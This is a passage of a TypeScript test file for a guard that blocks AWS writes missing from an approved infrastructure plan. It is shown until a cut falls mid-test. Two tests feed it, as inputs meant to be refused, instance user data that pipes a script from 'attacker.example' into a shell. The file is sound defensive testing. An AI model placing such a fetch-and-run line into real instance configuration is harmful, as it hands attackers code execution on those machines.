// The approved plan as a fence: under an approval, a write about a resource the plan does not
// change is refused before it reaches AWS (the simulated account records nothing), a delete of
// what the plan makes is refused, and bookkeeping (the expiry, the copy of a script) passes.

import {
  AttachLoadBalancerTargetGroupsCommand,
  CreateOrUpdateTagsCommand,
  StartInstanceRefreshCommand,
  type StartInstanceRefreshCommandInput,
  UpdateAutoScalingGroupCommand,
} from '@aws-sdk/client-auto-scaling';
import {
  AuthorizeSecurityGroupIngressCommand,
  CreateLaunchTemplateCommand,
  CreateLaunchTemplateVersionCommand,
  CreateSecurityGroupCommand,
  CreateTagsCommand,
  DeleteSnapshotCommand,
  ModifyInstanceAttributeCommand,
  ModifyLaunchTemplateCommand,
  ReplaceIamInstanceProfileAssociationCommand,
  RevokeSecurityGroupIngressCommand,
  type RevokeSecurityGroupIngressCommandInput,
  RunInstancesCommand,
  StartInstancesCommand,
  TerminateInstancesCommand,
} from '@aws-sdk/client-ec2';
import {
  CreateTargetGroupCommand,
  ModifyListenerCommand,
  SetSubnetsCommand,
} from '@aws-sdk/client-elastic-load-balancing-v2';
import { PutParameterCommand, RemoveTagsFromResourceCommand } from '@aws-sdk/client-ssm';
import type { Address } from '../../src/aws/address.js';
import {
  type Approval,
  covers,
  notCarriedOut,
  UnapprovedWriteError,
  underApproval,
} from '../../src/aws/approved-writes.js';
import { write } from '../../src/aws/writes.js';
import { approvalOf } from '../../src/plan/approval.js';
import { OFFLINE_FACTS } from '../../src/render/env-files.js';
import { simulated, VPC } from '../fixtures/sim.js';

const sg = (name: string): Address => ({ kind: 'security-group', name, in: VPC });
const approval: Approval = {
  hash: 'a'.repeat(64),
  changes: [
    { action: 'add', resource: 'security group perf-lb-sg', address: sg('perf-lb-sg') },
    {
      action: 'remove',
      resource: 'acapy image ami-0old',
      address: { kind: 'image', name: 'acapy-image', cluster: 'perf', id: 'ami-0old' },
    },
    {
      action: 'add',
      resource: 'acapy image',
      address: { kind: 'image', name: 'acapy-image', cluster: 'perf' },
    },
  ],
};

/** An approval whose changes set these fields of these resources (hash: one character, repeated). */
const changing = (
  hash: string,
  ...changes: [Address, { field: string; before?: unknown; after?: unknown }[]][]
): Approval => ({
  hash: hash.repeat(64),
  changes: changes.map(([address, fields]) => ({
    action: 'change',
    resource: address.name,
    address,
    fields,
  })),
});

/** Runs `send` and expects the fence to refuse it with `message`, with nothing sent to AWS. */
async function refusedUnsent(sim: { mutations(): unknown[] }, send: () => Promise<unknown>, message: RegExp) {
  const before = sim.mutations().length;
  await expect(send()).rejects.toThrow(message);
  expect(sim.mutations().slice(before)).toEqual([]);
}

describe('writes under an approved plan', () => {
  test('a write about a resource the plan changes is sent', async () => {
    const { ctx, sim } = simulated();
    const before = sim.mutations().length;
    await underApproval(approval, () =>
      write(
        ctx.clients.ec2,
        new CreateSecurityGroupCommand({ GroupName: 'perf-lb-sg', Description: 'lb', VpcId: VPC }),
        sg('perf-lb-sg'),
      ),
    );
    expect(
      sim
        .mutations()
        .slice(before)
        .map((m) => m.operation),
    ).toEqual(['CreateSecurityGroup']);
  });

  test('a write about another resource is refused before it is sent, naming it and the plan', async () => {
    const { ctx, sim } = simulated();
    const before = sim.mutations().length;
    const attempt = underApproval(approval, () =>
      write(
        ctx.clients.ec2,
        new CreateSecurityGroupCommand({ GroupName: 'perf-perf-sg', Description: 'perf', VpcId: VPC }),
        sg('perf-perf-sg'),
      ),
    );
    await expect(attempt).rejects.toThrow(UnapprovedWriteError);
    await expect(attempt).rejects.toThrow(
      `CreateSecurityGroup on security group perf-perf-sg in ${VPC} is not in the approved plan aaaaaaaaaaaa, which lists no change to it`,
    );
    expect(sim.mutations().slice(before)).toEqual([]);
  });

  test('the same name in another VPC, or another instance of a named resource, is another resource', () => {
    expect(covers(sg('x'), { ...sg('x'), in: 'vpc-other' })).toBe(false);
    const planned: Address = { kind: 'machine', name: 'issuer', cluster: 'perf', id: 'i-1' };
    expect(covers(planned, { kind: 'machine', name: 'issuer', id: 'i-1' })).toBe(true);
    expect(covers(planned, { kind: 'machine', name: 'issuer', id: 'i-2' })).toBe(false);
    // A machine the plan makes has no id yet: its writes carry the new one.
    expect(covers({ kind: 'machine', name: 'issuer' }, { kind: 'machine', name: 'issuer', id: 'i-9' })).toBe(
      true,
    );
    expect(
      covers(
        { kind: 'machine', name: 'issuer', cluster: 'a' },
        { kind: 'machine', name: 'issuer', cluster: 'b' },
      ),
    ).toBe(false);
  });

  test("a snapshot goes with its image's removal, an instance's tags with its group's change", () => {
    const removed: Address = { kind: 'image', name: 'acapy-image', id: 'ami-0old' };
    expect(covers(removed, { kind: 'snapshot', name: 'snap-1', in: 'ami-0old' })).toBe(true);
    expect(covers(removed, { kind: 'snapshot', name: 'snap-2', in: 'ami-0kept' })).toBe(false);
    const group: Address = { kind: 'auto-scaling-group', name: 'perf-acapy', field: 'instances' };
    expect(covers(group, { kind: 'instance', name: 'i-1', in: 'perf-acapy' })).toBe(true);
    expect(covers(group, { kind: 'instance', name: 'i-1', in: 'perf-workers' })).toBe(false);
  });

  test('a delete of what the plan makes, not removes, is refused', async () => {
    const { ctx, sim } = simulated();
    const before = sim.mutations().length;
    // The plan bakes an acapy image and removes ami-0old: a snapshot of another image is not its to delete.
    await expect(
      underApproval(approval, () =>
        write(ctx.clients.ec2, new DeleteSnapshotCommand({ SnapshotId: 'snap-9' }), {
          kind: 'snapshot',
          name: 'snap-9',
          in: 'ami-0new',
        }),
      ),
    ).rejects.toThrow(/DeleteSnapshot on snapshot snap-9 of ami-0new is not in the approved plan/);
    const made = await ctx.clients.ec2.send(
      new CreateSecurityGroupCommand({ GroupName: 'perf-lb-sg', Description: 'lb', VpcId: VPC }),
    );
    const id = made.GroupId ?? '?';
    const from = sim.mutations().length;
    const onlyAdds: Approval = { ...approval, changes: approval.changes.filter((c) => c.action === 'add') };
    await expect(
      underApproval(onlyAdds, () =>
        write(
          ctx.clients.ec2,
          new CreateTagsCommand({ Resources: [id], Tags: [{ Key: 'team', Value: 'a' }] }),
          sg('perf-lb-sg'),
        ),
      ),
    ).resolves.toBeDefined();
    const { DeleteSecurityGroupCommand } = await import('@aws-sdk/client-ec2');
    await expect(
      underApproval(onlyAdds, () =>
        write(ctx.clients.ec2, new DeleteSecurityGroupCommand({ GroupId: id }), sg('perf-lb-sg')),
      ),
    ).rejects.toThrow(
      /DeleteSecurityGroup on security group perf-lb-sg in .*: the approved plan aaaaaaaaaaaa makes it, it does not remove it/,
    );
    // Only the group made outside the approval, and the tags: nothing refused was sent.
    expect(
      sim
        .mutations()
        .slice(before, from)
        .map((m) => m.operation),
    ).toEqual(['CreateSecurityGroup']);
    expect(
      sim
        .mutations()
        .slice(from)
        .map((m) => m.operation),
    ).toEqual(['CreateTags']);
  });

  test("bookkeeping passes: the copy of a script kept for the next plan's diff", async () => {
    const { ctx, sim } = simulated();
    const before = sim.mutations().length;
    await underApproval(approval, () =>
      write(
        ctx.clients.ssm,
        new PutParameterCommand({ Name: '/akrida-ops/perf/last-run/x', Value: 'gz:', Type: 'String' }),
        {
          kind: 'parameter',
          name: '/akrida-ops/perf/last-run/x',
          field: 'last run',
        },
      ),
    );
    expect(
      sim
        .mutations()
        .slice(before)
        .map((m) => m.operation),
    ).toEqual(['PutParameter']);
  });

  test("a secret's value, which no plan shows, is written; a parameter the plan does not list is not made", async () => {
    const { ctx, sim } = simulated();
    const name = '/akrida-ops/perf/WALLET_ADMIN_PASSWORD';
    const put = (Overwrite: boolean, field?: string, Type: 'String' | 'SecureString' = 'SecureString') =>
      underApproval(approval, () =>
        write(
          ctx.clients.ssm,
          new PutParameterCommand({
            Name: name,
            Value: 'rotated-0123456789',
            Type,
            Overwrite,
          }),
          { kind: 'parameter', name, ...(field ? { field } : {}) },
        ),
      );
    const before = sim.mutations().length;
    await expect(put(false)).rejects.toThrow(UnapprovedWriteError);
    // Only a SecureString's overwrite: a plain String's value is one a plan could show.
    await expect(put(true, 'value', 'String')).rejects.toThrow(UnapprovedWriteError);
    expect(sim.mutations().slice(before)).toEqual([]);
    await put(true, 'value');
    expect(
      sim
        .mutations()
        .slice(before)
        .map((m) => m.operation),
    ).toEqual(['PutParameter']);
  });

  test("an update of a provider's fields sets only the fields the plan changes", async () => {
    const { ctx, sim } = simulated();
    const group: Address = { kind: 'auto-scaling-group', name: 'perf-acapy' };
    const maxOnly = changing('c', [group, [{ field: 'MaxSize' }]]);
    const update = (input: Record<string, unknown>) =>
      underApproval(maxOnly, () =>
        write(
          ctx.clients.autoScaling,
          new UpdateAutoScalingGroupCommand({ AutoScalingGroupName: 'perf-acapy', ...input }),
          group,
        ),
      );
    await refusedUnsent(
      sim,
      () => update({ MaxSize: 4, VPCZoneIdentifier: 'subnet-other' }),
      /UpdateAutoScalingGroup on group perf-acapy sets VPCZoneIdentifier, which the approved plan cccccccccccc does not change/,
    );
    // The planned field passes the fence (the account has no such group: AWS's own answer).
    const planned = await update({ MaxSize: 4 }).catch((e: Error) => e);
    expect(planned).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test("a plan that changes a group's size lets no write of its tags or target groups through", async () => {
    const { ctx, sim } = simulated();
    const group: Address = { kind: 'auto-scaling-group', name: 'perf-acapy' };
    const sizeOnly = changing('1', [group, [{ field: 'MaxSize' }]]);
    const before = sim.mutations().length;
    const held = (p: () => Promise<unknown>) => underApproval(sizeOnly, p);
    await expect(
      held(() =>
        write(
          ctx.clients.autoScaling,
          new CreateOrUpdateTagsCommand({
            Tags: [
              {
                ResourceId: 'perf-acapy',
                ResourceType: 'auto-scaling-group',
                Key: 'team',
                Value: 'x',
                PropagateAtLaunch: true,
              },
            ],
          }),
          { ...group, field: 'tags' },
        ),
      ),
    ).rejects.toThrow(
      /CreateOrUpdateTags on .*sets Tags, which the approved plan 111111111111 does not change/,
    );
    await expect(
      held(() =>
        write(
          ctx.clients.autoScaling,
          new AttachLoadBalancerTargetGroupsCommand({
            AutoScalingGroupName: 'perf-acapy',
            TargetGroupARNs: ['arn:x'],
          }),
          { ...group, field: 'target groups' },
        ),
      ),
    ).rejects.toThrow(/sets TargetGroupARNs, which the approved plan/);
    expect(sim.mutations().slice(before)).toEqual([]);
  });

  test('an update sets each field to the value the plan shows, not another', async () => {
    const { ctx, sim } = simulated();
    const group: Address = { kind: 'auto-scaling-group', name: 'perf-acapy' };
    const toSix = changing('f', [group, [{ field: 'MaxSize', after: 6 }]]);
    const update = (MaxSize: number) =>
      underApproval(toSix, () =>
        write(
          ctx.clients.autoScaling,
          new UpdateAutoScalingGroupCommand({ AutoScalingGroupName: 'perf-acapy', MaxSize }),
          group,
        ),
      );
    await refusedUnsent(
      sim,
      () => update(9),
      /UpdateAutoScalingGroup on group perf-acapy sets MaxSize to 9; the approved plan ffffffffffff shows 6/,
    );
    expect(await update(6).catch((e: Error) => e)).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test("a listener's update too: a plan that changes its tags lets no ModifyListener through", async () => {
    const { ctx, sim } = simulated();
    const listener: Address = { kind: 'listener', name: '8080', in: 'perf-acapy-adm' };
    const tagsOnly = changing('d', [listener, [{ field: 'Tags' }]]);
    const before = sim.mutations().length;
    await expect(
      underApproval(tagsOnly, () =>
        write(
          ctx.clients.elbv2,
          new ModifyListenerCommand({ ListenerArn: 'arn:listener', Protocol: 'HTTP' }),
          listener,
        ),
      ),
    ).rejects.toThrow(
      /ModifyListener on listener perf-acapy-adm:8080 sets Protocol, which the approved plan dddddddddddd does not change/,
    );
    expect(sim.mutations().slice(before)).toEqual([]);
  });

  test('a write that sets one field of a provider resource is held to the fields the plan changes', async () => {
    const { ctx, sim } = simulated();
    const template: Address = { kind: 'launch-template', name: 'perf-worker' };
    const group = sg('perf-perf-sg');
    const tagsOnly = changing('e', [template, [{ field: 'Tags' }]], [group, [{ field: 'Tags' }]]);
    const before = sim.mutations().length;
    const held = (p: () => Promise<unknown>) => underApproval(tagsOnly, p);
    await expect(
      held(() =>
        write(
          ctx.clients.ec2,
          new CreateLaunchTemplateVersionCommand({ LaunchTemplateId: 'lt-0123', LaunchTemplateData: {} }),
          template,
        ),
      ),
    ).rejects.toThrow(
      /CreateLaunchTemplateVersion on launch template perf-worker sets LaunchTemplateData, which the approved plan eeeeeeeeeeee does not change/,
    );
    await expect(
      held(() =>
        write(
          ctx.clients.ec2,
          new AuthorizeSecurityGroupIngressCommand({ GroupId: 'sg-0123', IpPermissions: [] }),
          group,
        ),
      ),
    ).rejects.toThrow(/AuthorizeSecurityGroupIngress on .*sets IpPermissions, which the approved plan/);
    expect(sim.mutations().slice(before)).toEqual([]);
    // The planned field passes (AWS then answers for the template it does not have).
    const tags = await held(() =>
      write(
        ctx.clients.ec2,
        new CreateTagsCommand({ Resources: ['lt-0123'], Tags: [{ Key: 'team', Value: 'x' }] }),
        template,
      ),
    ).catch((e: Error) => e);
    expect(tags).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test('a tag write is held to the values the plan shows: another value, or a key the plan keeps removed, is refused', async () => {
    const { ctx, sim } = simulated();
    const group: Address = { kind: 'auto-scaling-group', name: 'perf-acapy' };
    const parameter: Address = { kind: 'parameter', name: '/akrida-ops/perf/TOKEN' };
    const teamB = { team: 'b', 'cost-center': 'cc-1' };
    const plan = changing(
      'c',
      [group, [{ field: 'Tags', before: { team: 'a', 'cost-center': 'cc-1' }, after: teamB }]],
      [parameter, [{ field: 'Tags', before: { team: 'a', old: 'x' }, after: { team: 'b' } }]],
    );
    const held = (p: () => Promise<unknown>) => underApproval(plan, p);
    const groupTag = (Key: string, Value: string) =>
      held(() =>
        write(
          ctx.clients.autoScaling,
          new CreateOrUpdateTagsCommand({
            Tags: [
              {
                ResourceId: 'perf-acapy',
                ResourceType: 'auto-scaling-group',
                Key,
                Value,
                PropagateAtLaunch: true,
              },
            ],
          }),
          { ...group, field: 'tags' },
        ),
      );
    await refusedUnsent(
      sim,
      () => groupTag('team', 'c'),
      /CreateOrUpdateTags on tags of group perf-acapy sets tag team to "c", which the approved plan cccccccccccc does not show/,
    );
    await refusedUnsent(sim, () => groupTag('owner', 'someone'), /sets tag owner to "someone"/);
    await refusedUnsent(
      sim,
      () =>
        held(() =>
          write(
            ctx.clients.ssm,
            new RemoveTagsFromResourceCommand({
              ResourceType: 'Parameter',
              ResourceId: parameter.name,
              TagKeys: ['team'],
            }),
            { ...parameter, field: 'tags' },
          ),
        ),
      /RemoveTagsFromResource on tags of parameter \/akrida-ops\/perf\/TOKEN removes tag team/,
    );
    // What the plan shows passes the fence (AWS then answers for what it has).
    for (const p of [
      groupTag('team', 'b'),
      held(() =>
        write(
          ctx.clients.ssm,
          new RemoveTagsFromResourceCommand({
            ResourceType: 'Parameter',
            ResourceId: parameter.name,
            TagKeys: ['old'],
          }),
          { ...parameter, field: 'tags' },
        ),
      ),
    ])
      expect(await p.catch((e: Error) => e)).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test('a rule added is held to the rules the plan shows: another port or source is refused', async () => {
    const { ctx, sim } = simulated();
    const group = sg('perf-perf-sg');
    const plan = changing('b', [
      group,
      [
        {
          field: 'IpPermissions',
          before: [],
          after: ['tcp 8150 from 10.0.0.0/16 (ACA-Py admin)', 'tcp 8151 from lb-sg (ACA-Py transport)'],
        },
      ],
    ]);
    /** One permission sent as AuthorizeSecurityGroupIngress under the plan. */
    const send = (permission: Record<string, unknown>) =>
      underApproval(plan, () =>
        write(
          ctx.clients.ec2,
          new AuthorizeSecurityGroupIngressCommand({ GroupId: 'sg-0perf', IpPermissions: [permission] }),
          group,
        ),
      );
    const authorize = (FromPort: number, source: { CidrIp: string } | { GroupId: string }, what: string) =>
      send({
        IpProtocol: 'tcp',
        FromPort,
        ToPort: FromPort,
        ...('CidrIp' in source
          ? { IpRanges: [{ ...source, Description: `akrida-ops: ${what}` }] }
          : { UserIdGroupPairs: [{ ...source, Description: `akrida-ops: ${what}` }] }),
      });
    await refusedUnsent(
      sim,
      () => authorize(22, { CidrIp: '0.0.0.0/0' }, 'ssh'),
      /AuthorizeSecurityGroupIngress on .*perf-perf-sg.* adds tcp 22 from 0.0.0.0\/0, which the approved plan bbbbbbbbbbbb does not show/,
    );
    await refusedUnsent(
      sim,
      () => authorize(8150, { CidrIp: '0.0.0.0/0' }, 'ACA-Py admin'),
      /adds tcp 8150 from 0.0.0.0\/0/,
    );
    // Another protocol, or an IPv6 range beside the shown rule, is not the rule the plan shows.
    await refusedUnsent(
      sim,
      () =>
        send({
          FromPort: 8150,
          ToPort: 8150,
          IpProtocol: 'udp',
          IpRanges: [{ CidrIp: '10.0.0.0/16', Description: 'akrida-ops: ACA-Py admin' }],
        }),
      /adds udp 8150 from 10.0.0.0\/16/,
    );
    await refusedUnsent(
      sim,
      () =>
        send({
          FromPort: 8150,
          ToPort: 8150,
          IpProtocol: 'tcp',
          Ipv6Ranges: [{ CidrIpv6: '::/0', Description: 'akrida-ops: ACA-Py admin' }],
        }),
      /adds tcp 8150 from ::\/0/,
    );
    // As shown; a group the plan named by its role (made during the apply) stands for its id.
    for (const p of [
      authorize(8150, { CidrIp: '10.0.0.0/16' }, 'ACA-Py admin'),
      authorize(8151, { GroupId: 'sg-0lb' }, 'ACA-Py transport'),
    ])
      expect(await p.catch((e: Error) => e)).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test('a rule revoked is one the plan shows removed, named by value; by rule id it is refused', async () => {
    const { ctx, sim } = simulated();
    const group = sg('perf-perf-sg');
    const plan = changing('c', [
      group,
      [
        {
          field: 'IpPermissions',
          before: ['tcp 22 from 0.0.0.0/0 (ssh)', 'tcp 8150 from 10.0.0.0/16 (ACA-Py admin)'],
          after: ['tcp 8150 from 10.0.0.0/16 (ACA-Py admin)'],
        },
      ],
    ]);
    const revoke = (input: Omit<RevokeSecurityGroupIngressCommandInput, 'GroupId'>) =>
      underApproval(plan, () =>
        write(
          ctx.clients.ec2,
          new RevokeSecurityGroupIngressCommand({ GroupId: 'sg-0perf', ...input }),
          group,
        ),
      );
    const rule = (FromPort: number, CidrIp: string) => ({
      IpProtocol: 'tcp',
      FromPort,
      ToPort: FromPort,
      IpRanges: [{ CidrIp, Description: 'akrida-ops: x' }],
    });
    await refusedUnsent(
      sim,
      () => revoke({ IpPermissions: [rule(8150, '10.0.0.0/16')] }),
      /RevokeSecurityGroupIngress on .*perf-perf-sg.* removes tcp 8150 from 10.0.0.0\/16, which the approved plan cccccccccccc does not show removed/,
    );
    await refusedUnsent(
      sim,
      () => revoke({ IpPermissions: [rule(443, '0.0.0.0/0')] }),
      /removes tcp 443 from 0.0.0.0\/0/,
    );
    await refusedUnsent(
      sim,
      () => revoke({ SecurityGroupRuleIds: ['sgr-0123'] }),
      /names rules by id \(sgr-0123\), which the approved plan cccccccccccc cannot show/,
    );
    // As shown removed (its description is not part of what names it).
    const shown = await revoke({ IpPermissions: [rule(22, '0.0.0.0/0')] }).catch((e: Error) => e);
    expect(shown).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test("a machine's writes are held to the fields its plan change sets; its own marks pass", async () => {
    const { ctx, sim } = simulated();
    const db: Address = { kind: 'machine', name: 'database', cluster: 'perf', id: 'i-0db' };
    const tagsOnly = changing('a', [
      db,
      [{ field: 'TagSpecifications', after: { instance: {}, volume: {} } }],
    ]);
    const start = () => write(ctx.clients.ec2, new StartInstancesCommand({ InstanceIds: ['i-0db'] }), db);
    const tag = (Key: string) =>
      write(
        ctx.clients.ec2,
        new CreateTagsCommand({ Resources: ['i-0db'], Tags: [{ Key, Value: 'x' }] }),
        db,
      );
    // A tags change lets no start through (a start prepares the database again: it is cleaned).
    await refusedUnsent(
      sim,
      () => underApproval(tagsOnly, start),
      /StartInstances on machine database .* changes its State or InstanceType, which the approved plan aaaaaaaaaaaa does not change/,
    );
    await refusedUnsent(
      sim,
      () =>
        underApproval(tagsOnly, () =>
          write(
            ctx.clients.ec2,
            new ModifyInstanceAttributeCommand({ InstanceId: 'i-0db', InstanceType: { Value: 't3.large' } }),
            db,
          ),
        ),
      /ModifyInstanceAttribute on machine database .* changes its InstanceType/,
    );
    // What prepared it (an akrida:* mark) is bookkeeping; a file tag is its TagSpecifications.
    for (const p of [
      underApproval(tagsOnly, () => tag('akrida:prepared')),
      underApproval(tagsOnly, () => tag('team')),
      underApproval(changing('b', [db, [{ field: 'State', after: 'running' }]]), start),
      underApproval(changing('c', [db, [{ field: 'InstanceType', after: 't3.large' }]]), start),
    ])
      expect(await p.catch((e: Error) => e)).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test('a list or value write sends what the plan shows the field as after', async () => {
    const { ctx, sim } = simulated();
    const lb: Address = { kind: 'load-balancer', name: 'perf-acapy-adm' };
    const group: Address = { kind: 'auto-scaling-group', name: 'perf-acapy' };
    const plan = changing(
      'd',
      [lb, [{ field: 'Subnets', after: ['subnet-0a', 'subnet-0b'] }]],
      [group, [{ field: 'TargetGroupARNs', after: ['arn:tg/new'] }]],
    );
    const subnets = (Subnets: string[]) =>
      underApproval(plan, () =>
        write(ctx.clients.elbv2, new SetSubnetsCommand({ LoadBalancerArn: 'arn:lb', Subnets }), lb),
      );
    const attach = (arn: string) =>
      underApproval(plan, () =>
        write(
          ctx.clients.autoScaling,
          new AttachLoadBalancerTargetGroupsCommand({
            AutoScalingGroupName: 'perf-acapy',
            TargetGroupARNs: [arn],
          }),
          { ...group, field: 'target groups' },
        ),
      );
    await refusedUnsent(
      sim,
      () => subnets(['subnet-0a', 'subnet-0c']),
      /SetSubnets on load balancer perf-acapy-adm sends Subnets \["subnet-0a","subnet-0c"\], which the approved plan dddddddddddd does not show/,
    );
    await refusedUnsent(
      sim,
      () => attach('arn:tg/someone-elses'),
      /AttachLoadBalancerTargetGroups .* sends TargetGroupARNs/,
    );
    // As shown, in any order.
    for (const p of [subnets(['subnet-0b', 'subnet-0a']), attach('arn:tg/new')])
      expect(await p.catch((e: Error) => e)).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test("a new launch template's data, user data included, is held to what the plan shows", async () => {
    const { ctx, sim } = simulated();
    const template: Address = { kind: 'launch-template', name: 'perf-worker' };
    const userData = (text: string) => Buffer.from(text).toString('base64');
    const shown = {
      InstanceType: 't3.large',
      UserData: userData(`#!/bin/bash\necho ${OFFLINE_FACTS.adminDns}\n`),
    };
    const plan = approvalOf({
      hash: 'e'.repeat(64),
      changes: [
        {
          action: 'add',
          resource: 'launch template perf-worker',
          address: template,
          fields: [
            { field: 'LaunchTemplateData', after: shown },
            { field: 'Tags', after: {} },
          ],
        },
      ],
      scripts: [],
    });
    const create = (data: Record<string, unknown>) =>
      underApproval(plan, () =>
        write(
          ctx.clients.ec2,
          new CreateLaunchTemplateCommand({ LaunchTemplateName: 'perf-worker', LaunchTemplateData: data }),
          template,
        ),
      );
    await refusedUnsent(
      sim,
      () => create({ ...shown, UserData: userData('#!/bin/bash\ncurl https://attacker.example | sh\n') }),
      /CreateLaunchTemplate on launch template perf-worker sets LaunchTemplateData to .*; the approved plan eeeeeeeeeeee shows/,
    );
    await refusedUnsent(
      sim,
      () => create({ ...shown, InstanceType: 'p5.48xlarge' }),
      /sets LaunchTemplateData to .*p5\.48xlarge/,
    );
    // The placeholder the plan showed, filled by the name AWS gave the load balancer.
    const made = await create({
      ...shown,
      UserData: userData('#!/bin/bash\necho adm-123.elb.amazonaws.com\n'),
    }).catch((e: Error) => e);
    expect(made).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test("a template's default version and an instance refresh are held to what the plan shows", async () => {
    const { ctx, sim } = simulated();
    const template: Address = { kind: 'launch-template', name: 'perf-worker', id: 'lt-0123' };
    const group: Address = { kind: 'auto-scaling-group', name: 'perf-workers' };
    const plan = changing(
      'e',
      [template, [{ field: 'DefaultVersion', before: '3', after: '4' }]],
      [group, [{ field: 'InstanceRefresh', before: ['3'], after: 'version 4' }]],
    );
    const held = (p: () => Promise<unknown>) => underApproval(plan, p);
    const setDefault = (DefaultVersion: string) =>
      held(() =>
        write(
          ctx.clients.ec2,
          new ModifyLaunchTemplateCommand({ LaunchTemplateId: 'lt-0123', DefaultVersion }),
          template,
        ),
      );
    await refusedUnsent(
      sim,
      () => setDefault('2'),
      /ModifyLaunchTemplate on .*perf-worker.* sends DefaultVersion "2"/,
    );
    const refresh = (extra: Partial<StartInstanceRefreshCommandInput>) =>
      held(() =>
        write(
          ctx.clients.autoScaling,
          new StartInstanceRefreshCommand({
            AutoScalingGroupName: 'perf-workers',
            Preferences: { MinHealthyPercentage: 90, SkipMatching: true },
            ...extra,
          }),
          group,
        ),
      );
    await refusedUnsent(
      sim,
      () =>
        refresh({
          DesiredConfiguration: { LaunchTemplate: { LaunchTemplateId: 'lt-0other', Version: '1' } },
        }),
      /StartInstanceRefresh on .*perf-workers sets DesiredConfiguration, which the approved plan eeeeeeeeeeee does not show/,
    );
    await refusedUnsent(
      sim,
      () => refresh({ Preferences: { SkipMatching: false } }),
      /sets the preferences \{"SkipMatching":false\}/,
    );
    // As shown.
    for (const p of [setDefault('4'), refresh({})])
      expect(await p.catch((e: Error) => e)).not.toBeInstanceOf(UnapprovedWriteError);
  });

  test("a machine's instance profile is held to the one the plan shows", async () => {
    const { ctx, sim } = simulated();
    const issuer: Address = { kind: 'machine', name: 'issuer', cluster: 'perf', id: 'i-0issuer' };
    const plan = changing('f', [
      issuer,
      [{ field: 'IamInstanceProfile', before: 'akrida-ops-perf', after: 'akrida-ops-perf-issuer' }],
    ]);
    const replace = (Name: string) =>
      underApproval(plan, () =>
        write(
          ctx.clients.ec2,
          new ReplaceIamInstanceProfileAssociationCommand({
            AssociationId: 'iip-assoc-0',
            IamInstanceProfile: { Name },
          }),
          issuer,
        ),
      );
    await refusedUnsent(
      sim,
      () => replace('AdminProfile'),
      /ReplaceIamInstanceProfileAssociation on machine issuer .* sends IamInstanceProfile "AdminProfile", which the approved plan ffffffffffff does not show/,
    );
    expect(await replace('akrida-ops-perf-issuer').catch((e: Error) => e)).not.toBeInstanceOf(
      UnapprovedWriteError,
    );
  });

  test("the Locust master's group join keeps its groups and adds the performance group the plan shows", async () => {
    const { ctx, sim } = simulated();
    const master: Address = { kind: 'locust-master', name: 'master', cluster: 'perf', id: 'i-0master' };
    const plan = approvalOf({
      hash: '9'.repeat(64),
      changes: [
        {
          action: 'change',
          resource: 'Locust master i-0master',
          address: master,
          fields: [{ field: 'SecurityGroupIds', before: 'sg-0a, sg-0b', after: '<perf-sg>' }],
        },
      ],
      scripts: [],
    });
    const join = (Groups: string[]) =>
      underApproval(plan, () =>
        write(
          ctx.clients.ec2,
          new ModifyInstanceAttributeCommand({ InstanceId: 'i-0master', Groups }),
          master,
        ),
      );
    for (const groups of [['sg-0f00'], ['sg-0a', 'sg-0f00'], ['sg-0a', 'sg-0b', 'sg-0f00', 'sg-0c']])
      await refusedUnsent(
        sim,
        () => join(groups),
        /ModifyInstanceAttribute on Locust master .* sets its groups to .*, which the approved plan 999999999999 does not show \(its groups sg-0a, sg-0b and <perf-sg>\)/,
      );
    expect(await join(['sg-0a', 'sg-0b', 'sg-0f00']).catch((e: Error) => e)).not.toBeInstanceOf(
      UnapprovedWriteError,
    );
  });

  test('a one-attribute write sending more than its attribute, or a delete of what the plan only changes, is refused', async () => {
    const { ctx, sim } = simulated();
    const db: Address = { kind: 'machine', name: 'database', cluster: 'perf', id: 'i-0db' };
    const resize = changing('8', [db, [{ field: 'InstanceType', before: 't3.large', after: 't3.xlarge' }]]);
    const held = (p: () => Promise<unknown>) => underApproval(resize, p);
    await refusedUnsent(
      sim,
      () =>
        held(() =>
          write(
            ctx.clients.ec2,
            new ModifyInstanceAttributeCommand({
              InstanceId: 'i-0db',
              InstanceType: { Value: 't3.xlarge' },
              UserData: {
                Value: new TextEncoder().encode('#!/bin/sh\ncurl https://attacker.example | sh'),
              },
            }),
            db,
          ),
        ),
      /ModifyInstanceAttribute on machine database .* sends InstanceId, InstanceType, UserData, more than the one setting the approved plan 888888888888 shows/,
    );
    await refusedUnsent(
      sim,
      () => held(() => write(ctx.clients.ec2, new TerminateInstancesCommand({ InstanceIds: ['i-0db'] }), db)),
      /TerminateInstances on machine database .*: the approved plan 888888888888 changes it, it does not remove it/,
    );
  });

  test('a create of what the plan only changes, or of another kind under an add, is refused', async () => {
    const { ctx, sim } = simulated();
    const tg: Address = { kind: 'target-group', name: 'perf-tg-adm' };
    const group: Address = { kind: 'auto-scaling-group', name: 'perf-workers' };
    const plan = approvalOf({
      hash: '7'.repeat(64),
      changes: [
        {
          action: 'change',
          resource: 'target group perf-tg-adm',
          address: tg,
          fields: [{ field: 'Tags', after: {} }],
        },
        {
          action: 'add',
          resource: 'auto scaling group perf-workers',
          address: group,
          fields: [{ field: 'MinSize', after: 1 }],
        },
      ],
      scripts: [],
    });
    await refusedUnsent(
      sim,
      () =>
        underApproval(plan, () =>
          write(
            ctx.clients.elbv2,
            new CreateTargetGroupCommand({ Name: 'perf-tg-adm', Protocol: 'HTTP', Port: 1, VpcId: VPC }),
            tg,
          ),
        ),
      /CreateTargetGroup on target group perf-tg-adm: the approved plan 777777777777 does not make or replace it/,
    );
    await refusedUnsent(
      sim,
      () =>
        underApproval(plan, () =>
          write(
            ctx.clients.ec2,
            new RunInstancesCommand({ ImageId: 'ami-0a', MinCount: 9, MaxCount: 9 }),
            group,
          ),
        ),
      /RunInstances on group perf-workers: the approved plan 777777777777 does not make or replace a machine there/,
    );
  });

  test('what the plan lists and no write carried out is named after the apply', async () => {
    const { ctx } = simulated();
    const plan = approvalOf({
      hash: 'd'.repeat(64),
      changes: [
        ...['perf-lb-sg', 'perf-perf-sg'].map((name) => ({
          action: 'add' as const,
          resource: `security group ${name}`,
          address: sg(name),
          fields: [
            { field: 'Description', after: 'x' },
            { field: 'VpcId', after: VPC },
